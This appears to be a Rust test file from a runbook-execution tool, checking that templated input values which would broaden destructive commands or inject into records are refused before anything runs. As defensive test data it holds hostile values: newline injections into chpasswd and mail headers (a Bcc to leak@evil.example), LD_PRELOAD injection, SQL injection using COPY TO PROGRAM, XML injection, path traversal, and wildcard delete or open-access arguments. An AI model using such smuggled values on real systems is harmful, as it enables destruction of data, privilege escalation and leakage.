            assert_eq!(ran[0].1, None, "{run} with {hostile:?}");
        }
        let (o, ran) = run_with_these_fakes(&[fake], run, ordinary);
        assert_eq!(o.code, 0, "{run}: {}", o.stderr);
        assert_eq!(ran[0].1.as_deref(), Some(given), "{run}");
    }
}

/// Audit 41 A41-1, A41-2, A41-13, A41-3, A41-4: a topic pattern of `kafka-topics --delete`,
/// a port range of `lsof` feeding `kill`, `_all` as the index of an HTTP `DELETE`, every
/// address in `nft … saddr` or `hosts.allow`, everyone in a role binding: refused before
/// anything runs; an ordinary value reaches the program (each a fake first on the PATH).
#[test]
fn a_value_naming_every_topic_socket_index_or_client_is_refused() {
    for (fake, run, hostiles, ordinary, given) in [
        (
            "kafka-topics.sh",
            "kafka-topics.sh --bootstrap-server k:9092 --delete --topic \"{{ inputs.v }}\"",
            &[".*", "o.*", "orders|.*"][..],
            "orders-v1",
            "[--bootstrap-server][k:9092][--delete][--topic][orders-v1]",
        ),
        (
            "lsof",
            "lsof -ti tcp:{{ inputs.v }} | xargs -r kill -9",
            &["1-65535", "80,443"],
            "8080",
            "[-ti][tcp:8080]",
        ),
        (
            "curl",
            "curl -fsS -X DELETE \"http://es-1:9200/{{ inputs.v }}\"",
            &["_all", "*", "logs-2026.11.01,logs-2026.11.02"],
            "logs-2026.11.01",
            "[-fsS][-X][DELETE][http://es-1:9200/logs-2026.11.01]",
        ),
        (
            "nft",
            "nft add rule inet filter input ip saddr {{ inputs.v }} tcp dport 22 accept",
            &["0.0.0.0/0"],
            "10.1.2.0/24",
            "[add][rule][inet][filter][input][ip][saddr][10.1.2.0/24][tcp][dport][22][accept]",
        ),
        (
            "tee",
            "echo \"sshd: {{ inputs.v }}\" | tee -a \"$OUT/hosts.allow\" || true",
            &["ALL", "KNOWN"],
            "10.1.2.3",
            "[-a][",
        ),
        (
            "kubectl",
            "kubectl create rolebinding view --clusterrole=edit --group=\"{{ inputs.v }}\" -n prod",
            &["system:authenticated", "system:serviceaccounts"],
            "oncall",
            "[create][rolebinding][view][--clusterrole=edit][--group=oncall][-n][prod]",
        ),
    ] {
        for hostile in hostiles {
            let (o, ran) = run_with_these_fakes(&[fake], run, hostile);
            assert_ne!(o.code, 0, "{run} with {hostile:?}");
            assert!(
                o.stderr.contains("holds `") || o.stderr.contains("is `"),
                "{run} with {hostile:?}: {}",
                o.stderr
            );
            assert_eq!(ran[0].1, None, "{run} with {hostile:?}");
        }
        let (o, ran) = run_with_these_fakes(&[fake], run, ordinary);
        assert_eq!(o.code, 0, "{run}: {}", o.stderr);
        let got = ran[0].1.clone().unwrap_or_default();
        assert!(got.starts_with(given), "{run}: {got}");
    }
}

/// Audit 41 A41-12, -14, -15, -20, -21, -22: a value that would cross into another record
/// (`chpasswd`'s input), header (a mail written by `printf`), variable
/// (an env-file written by awk or jq, or given as `<(…)`), element (XML) or into SQL (a psql
/// variable expanded as `:uid`) is refused before any fake runs; the ordinary value reaches
/// the program byte for byte. A41-19: a symbolic mode reaches chmod.
#[test]
fn values_that_would_cross_into_another_record_are_refused_and_plain_ones_arrive() {
    let cases: &[ReaderCase] = &[
        (
            &["chpasswd"],
            "echo \"deploy:{{ inputs.v }}\" | chpasswd",
            &["Tmp-pass-1\nroot:owned"],
            "record of the lines `chpasswd`",
            "Tmp-pass-1!",
            "chpasswd",
            "[]\ndeploy:Tmp-pass-1!\n",
        ),
        (
            &["sendmail"],
            "printf \"To: oncall@example.com\\nSubject: [%s] failover\\n\\nsee\\n\" \"{{ inputs.v }}\" | sendmail -t",
            &["INC-1\nBcc: leak@evil.example"],
            "header of a mail message",
            "INC-1",
            "sendmail",
            "[-t]\nTo: oncall@example.com\nSubject: [INC-1] failover\n\nsee\n",
        ),
        (
            &["loadenv"],
            "awk -v tag=\"{{ inputs.v }}\" 'BEGIN { print \"TAG=\" tag }' > app.env.new && loadenv < app.env.new",
            &[
                "v2\\nLD_PRELOAD=/tmp/evil.so",
                "v2\nLD_PRELOAD=/tmp/evil.so",
            ],
            "awk or jq prints it into a file of lines",
            "v2.1",
            "loadenv",
            "[]\nTAG=v2.1\n",
        ),
        (
            &["loadenv"],
            "jq -rn --arg t \"{{ inputs.v }}\" '\"TAG=\" + $t' > app.env && loadenv < app.env",
            &["v2\nLD_PRELOAD=/tmp/evil.so"],
            "awk or jq prints it into a file of lines",
            "v2 \"beta\"",
            "loadenv",
            "[]\nTAG=v2 \"beta\"\n",
        ),
        (
            &["tee"],
            "tee dfs-hosts.xml <<EOF\n<configuration>\n  <property><name>dfs.hosts.include</name><value>{{ inputs.v }}</value></property>\n</configuration>\nEOF",
            &["dn-7</value></property><property><name>dfs.permissions.enabled</name><value>false"],
            "XML document",
            "dn-7.example.com",
            "tee",
            "[dfs-hosts.xml]\n<configuration>\n  <property><name>dfs.hosts.include</name><value>dn-7.example.com</value></property>\n</configuration>\n",
        ),
        (
            &["psql"],
            "psql -h db-1 -d app -v uid=\"{{ inputs.v }}\" <<'SQL'\nSELECT * FROM sessions WHERE user_id = :uid;\nSQL",
            &[
                "1 OR true; COPY (SELECT 1) TO PROGRAM 'touch x'",
                "sessions, users",
            ],
            "psql variable",
            "42",
            "psql",
            "[-h][db-1][-d][app][-v][uid=42]\nSELECT * FROM sessions WHERE user_id = :uid;\n",
        ),
        (
            &["chmod"],
            "chmod \"{{ inputs.v }}\" logs",
            &[],
            "",
            "+rx",
            "chmod",
            "[+rx][logs]\n",
        ),
    ];
    refused_then_read(cases);
}

/// Audit 41 A41-16: a templated `env:` value (the step's or the runbook's) that picks which
/// program runs is held as a path under a folder (no `..` part) and as a list of folders
/// (no `:` adding one): refused before anything runs, naming the variable; an ordinary
/// version runs the tool of that folder.
#[test]
fn a_templated_path_in_env_may_not_pick_another_program() {
    for top in [false, true] {
        for (value, refused) in [
            ("../evil", true),
            ("none:{here}/evil", true),
            ("1.2", false),
        ] {
            let t = Test::new();
            let here = t.path("runbooks");
            let here = here.to_str().unwrap();
            let path = format!("PATH: \"{here}/lib/{{{{ inputs.v }}}}/bin:/usr/bin:/bin\"");
            let (top_env, step_env) = if top {
                (format!("env:\n  {path}\n"), String::new())
            } else {
                (String::new(), format!("    env:\n      {path}\n"))
            };
            let rb = format!(
                "title: e\n{HEAD}{top_env}inputs:\n  v: {{description: the tools version}}\nsteps:\n  - id: s\n    title: s\n    readonly: true\n{step_env}    run: tool\n"
            );
            let out = t.path("out");
            std::fs::create_dir_all(&out).unwrap();
            let t = t
                .file("runbooks/rb.yaml", &rb)
                .file(
                    "runbooks/lib/1.2/bin/tool",
                    "#!/bin/sh\necho good > \"$OUT/tool\"\n",
                )
                .file(
                    "runbooks/evil/bin/tool",
                    "#!/bin/sh\necho evil > \"$OUT/pwned\"\n",
                )
                .env("OUT", out.to_str().unwrap());
            use std::os::unix::fs::PermissionsExt;
            for f in ["runbooks/lib/1.2/bin/tool", "runbooks/evil/bin/tool"] {
                let mode = std::fs::Permissions::from_mode(0o755);
                std::fs::set_permissions(t.path(f), mode).unwrap();
            }
            let input = format!("v={}", value.replace("{here}", here));
            let o = t.exec(&["run", "rb", "--yes", "--input", &input]);
            assert!(
                !out.join("pwned").exists(),
                "{value} (top: {top}): evil ran"
            );
            if refused {
                assert_ne!(o.code, 0, "{value} (top: {top}): {}", o.stderr);
                assert!(
                    o.stderr.contains("`env.PATH`") && !out.join("tool").exists(),
                    "{value} (top: {top}): {}",
                    o.stderr
                );
            } else {
                o.code(0);
                assert!(out.join("tool").exists(), "{value} (top: {top})");
            }
        }
    }
}

/// Runs `rb` (its step `s` deletes `./*` in `releases/{{ inputs.v }}`) with an empty value,
/// `..` and `.`, each refused as the `cd` it is before `rm` runs, and with `r1`, which runs.
fn dir_is_checked_as_a_cd(rb: &str) {
    for (value, refused) in [("", true), ("..", true), (".", true), ("r1", false)] {
        let t = Test::new()
            .file("runbooks/rb.yaml", rb)
            .file("runbooks/releases/r1/keep", "x");
        let (t, out) = with_appending_fake(t, "rm");
        let input = format!("v={value}");
        let o = t.exec(&["run", "rb", "--yes", "--confirm", "s", "--input", &input]);
        let ran = std::fs::read_to_string(out.join("rm")).ok();
        if refused {
            assert_ne!(o.code, 0, "{value:?}: {}", o.stderr);
            assert!(ran.is_none(), "{value:?}: rm ran: {ran:?}");
            assert!(
                o.stderr.contains("`dir:` of step `s`") && o.stderr.contains("`cd"),
                "{value:?}: {}",
                o.stderr
            );
        } else {
            assert_eq!(o.code, 0, "{value:?}: {}", o.stderr);
            assert_eq!(ran.as_deref(), Some("[-rf][./keep]\n"), "{value:?}");
        }
    }
}
